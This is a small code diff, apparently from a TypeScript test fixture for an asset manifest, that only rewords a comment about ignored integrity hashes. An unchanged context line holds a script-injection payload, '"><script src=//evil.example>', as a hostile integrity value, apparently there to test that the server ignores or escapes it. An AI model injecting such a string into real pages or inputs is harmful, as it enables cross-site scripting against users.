@@ -25,7 +25,7 @@ const manifestOf = (entry: string) =>
 const assetsOf = (groups: Record<string, string[]>) =>
   JSON.stringify({
     groups,
-    // A remote's own list of hashes is ignored.
+    // The server ignores a remote's own list of hashes.
     integrity: { 'page-book.js': '"><script src=//evil.example>' },
     provides: {},
     consumes: { 'page-book': ['shared/query'] },
